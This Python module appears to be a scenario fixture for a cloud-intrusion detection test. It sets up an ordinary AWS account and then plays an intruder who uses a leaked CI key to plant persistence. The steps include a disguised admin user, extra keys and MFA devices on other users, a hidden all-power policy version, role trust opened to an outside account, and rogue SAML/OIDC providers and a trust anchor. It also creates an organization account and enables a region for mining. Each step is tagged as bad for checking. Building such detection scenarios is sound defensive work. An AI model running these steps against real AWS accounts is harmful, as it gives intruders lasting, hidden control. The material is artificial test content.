"""IAM, federation and the organization: honest users and roles, then the ways back in."""

from __future__ import annotations

import base64
from datetime import UTC, datetime, timedelta

from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ed25519
from cryptography.x509.oid import NameOID

from .account import ACCOUNT, HOME, INTRUDER, OPT_IN, OPT_IN_MINING, VENDOR, Caller, Story, allow, document, role, trust

USERS = {"alice.admin": None, "bob.dev": ["ec2:Describe*", "lambda:*", "logs:*"], "ci-deploy": "*", "ses-mailer": ["ses:Send*"]}
SSH_KEY = "ssh-rsa " + base64.b64encode(b"\0\0\0\7ssh-rsa\0\0\0\3\1\0\1\0\0\1\1" + b"\x5a" * 257).decode() + " intruder"


def certificate() -> str:
    """The same bytes each time: key and dates are fixed, and Ed25519 signs without chance."""
    key = ed25519.Ed25519PrivateKey.from_private_bytes(b"stand-in certificate authority..")
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "intruder.example")])
    start = datetime(2025, 1, 1, tzinfo=UTC)
    builder = x509.CertificateBuilder().subject_name(name).issuer_name(name).public_key(key.public_key()).serial_number(4711)
    built = builder.not_valid_before(start).not_valid_after(start + timedelta(days=3650)).sign(key, None)
    assert built.signature_hash_algorithm is None or isinstance(built.signature_hash_algorithm, hashes.HashAlgorithm)
    return built.public_bytes(serialization.Encoding.PEM).decode()


def metadata(entity: str) -> str:
    """Long enough for what IAM takes as SAML metadata."""
    key = base64.b64encode(entity.encode() * 60).decode()
    space = "urn:oasis:names:tc:SAML:2.0"
    return (f'<EntityDescriptor xmlns="{space}:metadata" entityID="{entity}"><IDPSSODescriptor protocolSupportEnumeration="{space}:protocol">'
            f'<KeyDescriptor use="signing"><KeyInfo><X509Data><X509Certificate>{key}</X509Certificate></X509Data></KeyInfo></KeyDescriptor>'
            f'<SingleSignOnService Location="{entity}/sso" Binding="{space}:bindings:HTTP-POST"/></IDPSSODescriptor></EntityDescriptor>')


def ordinary_users(story: Story) -> None:
    iam = story.operator("iam")
    iam.create_account_alias(AccountAlias="acme-prod")
    iam.create_group(GroupName="admins")
    iam.put_group_policy(GroupName="admins", PolicyName="admin", PolicyDocument=document(allow("*")))
    for name, actions in USERS.items():
        arn = iam.create_user(UserName=name)["User"]["Arn"]
        story.good("user", HOME, "iam", "ListUsers", arn)
        if actions:
            iam.put_user_policy(UserName=name, PolicyName="work", PolicyDocument=document(allow(actions)))
        story.keep_key(name, iam.create_access_key(UserName=name)["AccessKey"], hostile=name == "ci-deploy")
    iam.add_user_to_group(GroupName="admins", UserName="alice.admin")
    iam.create_login_profile(UserName="alice.admin", Password=story.secret("alice.admin:password"))
    device = iam.create_virtual_mfa_device(VirtualMFADeviceName="alice.admin")["VirtualMFADevice"]["SerialNumber"]
    iam.enable_mfa_device(UserName="alice.admin", SerialNumber=device, AuthenticationCode1="123456", AuthenticationCode2="654321")
    story.good("mfa-device", HOME, "iam", "ListVirtualMFADevices", device)


def ordinary_roles(story: Story) -> None:
    iam = story.operator("iam")
    roles = {
        "app-server": ({"Service": "ec2.amazonaws.com"}, "s3:GetObject", {}), "billing": ({"Service": "lambda.amazonaws.com"}, "dynamodb:*", {}),
        "tasks": ({"Service": "ecs-tasks.amazonaws.com"}, "secretsmanager:GetSecretValue", {}),
        "breakglass": ({"AWS": f"arn:aws:iam::{ACCOUNT}:user/alice.admin"}, "*", {}),
        "vendor": ({"AWS": f"arn:aws:iam::{VENDOR}:root"}, "cloudwatch:Get*", {"Condition": {"StringEquals": {"sts:ExternalId": "acme-7f3a"}}}),
    }
    for name, (principal, actions, condition) in roles.items():
        arn = iam.create_role(RoleName=name, AssumeRolePolicyDocument=trust(principal, **condition))["Role"]["Arn"]
        iam.put_role_policy(RoleName=name, PolicyName="work", PolicyDocument=document(allow(actions)))
        story.good("role", HOME, "iam", "ListRoles", arn)
    iam.create_instance_profile(InstanceProfileName="app-server")
    iam.add_role_to_instance_profile(InstanceProfileName="app-server", RoleName="app-server")
    okta = iam.create_saml_provider(Name="okta", SAMLMetadataDocument=metadata("https://acme.okta.example"))["SAMLProviderArn"]
    story.good("saml-provider", HOME, "iam", "ListSAMLProviders", okta)


def ordinary_organization(story: Story) -> None:
    organizations = story.operator("organizations")
    organizations.create_organization(FeatureSet="ALL")
    member = organizations.create_account(AccountName="acme-data", Email="data@acme.example")["CreateAccountStatus"]["AccountId"]
    story.good("organization-account", HOME, "organizations", "ListAccounts", member)
    story.optional("account:EnableRegion", lambda: story.operator("account").enable_region(RegionName=OPT_IN))


def backdoor_user(story: Story) -> None:
    iam = story.leaked("iam")
    story.leaked("sts").get_caller_identity()
    leaked = story.credentials["ci-deploy"]["AccessKeyId"]
    story.bad("access-key", HOME, "iam", "ListAccessKeys", leaked, UserName="ci-deploy")
    name = "aws-support-svc"
    arn = iam.create_user(UserName=name)["User"]["Arn"]
    story.bad("user", HOME, "iam", "ListUsers", arn)
    iam.put_user_policy(UserName=name, PolicyName="s3-readonly", PolicyDocument=document(allow("*", Sid="NotReadOnlyAtAll")))
    story.bad("user-policy", HOME, "iam", "GetUserPolicy", "NotReadOnlyAtAll", UserName=name, PolicyName="s3-readonly")
    iam.create_login_profile(UserName=name, Password=story.secret(f"{name}:password"))
    story.bad("login-profile", HOME, "iam", "GetLoginProfile", name, UserName=name)
    key = iam.create_access_key(UserName=name)["AccessKey"]
    story.keep_key(name, key, hostile=True)
    story.bad("access-key", HOME, "iam", "ListAccessKeys", key["AccessKeyId"], UserName=name)
    story.intruder = Caller(story.endpoint, story.credentials[name], "203.0.113.66")


def keys_of_others(story: Story) -> None:
    iam = story.intruder("iam")
    second = iam.create_access_key(UserName="ses-mailer")["AccessKey"]
    story.keep_key("ses-mailer-2", second, hostile=True)
    story.bad("access-key", HOME, "iam", "ListAccessKeys", second["AccessKeyId"], UserName="ses-mailer")
    device = iam.create_virtual_mfa_device(VirtualMFADeviceName="phone-2")["VirtualMFADevice"]
    seed = device.get("Base32StringSeed")
    if seed:
        story.secret("mfa-seed", seed.decode() if isinstance(seed, bytes) else seed)
    iam.enable_mfa_device(UserName="bob.dev", SerialNumber=device["SerialNumber"], AuthenticationCode1="123456", AuthenticationCode2="654321")
    story.bad("mfa-device", HOME, "iam", "ListVirtualMFADevices", device["SerialNumber"])
    ssh = iam.upload_ssh_public_key(UserName="ci-deploy", SSHPublicKeyBody=SSH_KEY)["SSHPublicKey"]["SSHPublicKeyId"]
    story.bad("ssh-key", HOME, "iam", "ListSSHPublicKeys", ssh, UserName="ci-deploy")
    signing = iam.upload_signing_certificate(UserName="ci-deploy", CertificateBody=certificate())["Certificate"]["CertificateId"]
    story.bad("signing-certificate", HOME, "iam", "ListSigningCertificates", signing, UserName="ci-deploy")
    iam.add_user_to_group(GroupName="admins", UserName="bob.dev")
    story.bad("group-member", HOME, "iam", "GetGroup", f"arn:aws:iam::{ACCOUNT}:user/bob.dev", GroupName="admins")
    story.optional("iam:CreateServiceSpecificCredential", lambda: bedrock_key(story))


def bedrock_key(story: Story) -> None:
    made = story.intruder("iam").create_service_specific_credential(UserName="bob.dev", ServiceName="bedrock.amazonaws.com")["ServiceSpecificCredential"]
    story.secret("bedrock-api-key", made["ServiceCredentialSecret"])
    story.bad("service-credential", HOME, "iam", "ListServiceSpecificCredentials", made["ServiceSpecificCredentialId"], UserName="bob.dev")


def policies(story: Story) -> None:
    iam, arn = story.intruder("iam"), f"arn:aws:iam::{ACCOUNT}:policy/ops-readonly"
    iam.create_policy(PolicyName="ops-readonly", PolicyDocument=document(allow("*", Sid="OldVersionWithAllPower")))
    iam.create_policy_version(PolicyArn=arn, PolicyDocument=document(allow("ec2:Describe*")), SetAsDefault=True)
    iam.attach_user_policy(UserName="bob.dev", PolicyArn=arn)
    story.bad("policy", HOME, "iam", "ListPolicies", arn, Scope="Local")
    story.bad("policy-version", HOME, "iam", "GetPolicyVersion", "OldVersionWithAllPower", PolicyArn=arn, VersionId="v1")
    story.bad("attached-policy", HOME, "iam", "ListAttachedUserPolicies", arn, UserName="bob.dev")


def roles(story: Story) -> None:
    iam = story.intruder("iam")
    iam.create_role(RoleName="OrganizationAuditRole", AssumeRolePolicyDocument=trust({"AWS": f"arn:aws:iam::{INTRUDER}:root"}), MaxSessionDuration=43200)
    iam.attach_role_policy(RoleName="OrganizationAuditRole", PolicyArn="arn:aws:iam::aws:policy/AdministratorAccess")
    story.bad("role", HOME, "iam", "ListRoles", role("OrganizationAuditRole"))
    widened = trust({"Service": "lambda.amazonaws.com", "AWS": f"arn:aws:iam::{INTRUDER}:root"})
    iam.update_assume_role_policy(RoleName="billing", PolicyDocument=widened)
    story.bad("role-trust", HOME, "iam", "GetRole", f"arn:aws:iam::{INTRUDER}:root", RoleName="billing")
    backdoor = f"arn:aws:iam::{ACCOUNT}:user/aws-support-svc"
    iam.update_assume_role_policy(RoleName="breakglass", PolicyDocument=trust({"AWS": [f"arn:aws:iam::{ACCOUNT}:user/alice.admin", backdoor]}))
    story.bad("role-trust", HOME, "iam", "GetRole", backdoor, RoleName="breakglass")
    iam.put_role_policy(RoleName="app-server", PolicyName="logs", PolicyDocument=document(allow("iam:*", Sid="ServerMayChangeIdentities")))
    story.bad("role-policy", HOME, "iam", "GetRolePolicy", "ServerMayChangeIdentities", RoleName="app-server", PolicyName="logs")
    iam.create_instance_profile(InstanceProfileName="worker")
    iam.add_role_to_instance_profile(InstanceProfileName="worker", RoleName="OrganizationAuditRole")
    story.bad("instance-profile", HOME, "iam", "ListInstanceProfiles", f"arn:aws:iam::{ACCOUNT}:instance-profile/worker")


def providers(story: Story) -> None:
    iam = story.intruder("iam")
    saml = iam.create_saml_provider(Name="corp-sso", SAMLMetadataDocument=metadata("https://idp.intruder.example"))["SAMLProviderArn"]
    story.bad("saml-provider", HOME, "iam", "ListSAMLProviders", saml)
    oidc = iam.create_open_id_connect_provider(Url="https://oidc.attacker.example", ClientIDList=["sts.amazonaws.com"], ThumbprintList=["f" * 40])
    story.bad("oidc-provider", HOME, "iam", "ListOpenIDConnectProviders", oidc["OpenIDConnectProviderArn"])
    for name, provider, action in (("sso-admin", saml, "sts:AssumeRoleWithSAML"), ("runner", oidc["OpenIDConnectProviderArn"], "sts:AssumeRoleWithWebIdentity")):
        iam.create_role(RoleName=name, AssumeRolePolicyDocument=trust({"Federated": provider}, action))
        story.bad("role", HOME, "iam", "ListRoles", role(name))


def anchor(story: Story) -> None:
    made = story.intruder("rolesanywhere").create_trust_anchor(
        name="ca", source={"sourceType": "CERTIFICATE_BUNDLE", "sourceData": {"x509CertificateData": certificate()}}, enabled=True)
    story.bad("trust-anchor", HOME, "rolesanywhere", "ListTrustAnchors", made["trustAnchor"]["trustAnchorArn"])


def sessions(story: Story) -> None:
    live = story.intruder("sts").assume_role(RoleArn=role("breakglass"), RoleSessionName="i-0abc")["Credentials"]
    story.keep_key("breakglass-session", live, hostile=True)

    def looked_up() -> None:
        story.operator("cloudtrail").lookup_events(MaxResults=1)
        attributes = [{"AttributeKey": "EventName", "AttributeValue": "AssumeRole"}]
        story.bad("session", HOME, "cloudtrail", "LookupEvents", live["AccessKeyId"], LookupAttributes=attributes)

    story.optional("cloudtrail:LookupEvents", looked_up)


def organization(story: Story) -> None:
    made = story.intruder("organizations").create_account(AccountName="aws-support-billing", Email="a@intruder.example")["CreateAccountStatus"]
    story.bad("organization-account", HOME, "organizations", "ListAccounts", made["AccountId"])
    story.optional("account:EnableRegion", lambda: opened_region(story))


def opened_region(story: Story) -> None:
    story.intruder("account").enable_region(RegionName=OPT_IN_MINING)
    story.bad("region", HOME, "account", "ListRegions", OPT_IN_MINING, RegionOptStatusContains=["ENABLED"])


def ordinary(story: Story) -> None:
    story.play(ordinary_users, ordinary_roles, ordinary_organization)
    story.leaked = Caller(story.endpoint, story.credentials["ci-deploy"], "203.0.113.66")


def intrusion(story: Story) -> None:
    story.play(backdoor_user, keys_of_others, policies, roles, providers, sessions, organization)
    story.optional("rolesanywhere:CreateTrustAnchor", lambda: anchor(story))
